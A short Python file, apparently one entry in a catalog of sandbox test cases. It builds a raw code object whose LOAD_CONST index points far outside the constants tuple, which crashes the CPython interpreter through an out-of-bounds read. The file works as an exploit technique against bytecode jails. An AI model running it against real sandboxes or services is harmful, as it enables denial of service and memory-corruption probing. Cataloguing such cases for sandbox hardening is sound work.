"""A code object made from raw parts loads a constant far outside of its tuple.

Known from: CTF jails on bytecode (LOAD_CONST out of bounds); the history of pysandbox
Effect: crash
Host: helper = lambda: None
Given: helper
"""
import opcode

load, extended = opcode.opmap["LOAD_CONST"], opcode.opmap["EXTENDED_ARG"]
code = helper.__code__
raw = bytes([extended, 127, extended, 255, extended, 255, load, 255,
             opcode.opmap["RETURN_VALUE"], 0])
made = type(code)(0, 0, 0, 0, 99, 3, raw, (), (), (), "f", "f", "f", 1, b"", b"", (), ())
type(helper)(made, {})()
